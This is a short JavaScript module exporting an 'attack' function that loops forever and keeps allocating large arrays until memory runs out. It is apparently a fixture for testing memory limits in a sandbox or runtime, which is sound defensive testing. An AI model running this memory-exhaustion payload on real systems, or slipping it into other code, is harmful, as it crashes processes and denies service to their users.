exports.attack = () => {
  const kept = []
  for (;;) kept.push(new Array(1 << 16).fill(kept.length + 0.5))
}
